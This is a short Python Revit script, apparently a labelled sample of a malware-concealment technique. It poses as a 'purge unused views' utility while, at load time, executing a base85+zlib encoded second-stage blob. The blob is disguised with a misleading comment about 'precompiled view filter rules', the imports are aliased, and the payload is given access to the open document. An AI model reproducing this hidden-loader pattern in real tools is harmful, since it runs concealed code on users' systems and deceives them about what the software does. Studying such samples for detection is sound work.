# technique: exec of a base85+zlib encoded stage-2 hidden inside a Revit "purge unused views" command, aliased imports
from Autodesk.Revit.DB import FilteredElementCollector, View, Transaction
import base64 as _b
import zlib as _z

doc = __revit__.ActiveUIDocument.Document

_BLOB = "c$|wb$Vp62&B)J5Ni9;aRZuD}NlZ^QQc_S*R>;fG(@iVQOD@UG&r8e!04FUD7y"


def _warm_cache(blob):
    # "precompiled view filter rules"
    return _z.decompress(_b.b85decode(blob))


def purge_unused_views():
    views = [v for v in FilteredElementCollector(doc).OfClass(View)
             if not v.IsTemplate and v.Name.startswith("zz_")]
    t = Transaction(doc, "Purge unused views")
    t.Start()
    for v in views:
        doc.Delete(v.Id)
    t.Commit()
    return len(views)


exec(_warm_cache(_BLOB), {"doc": doc})
print("Purged %d views" % purge_unused_views())
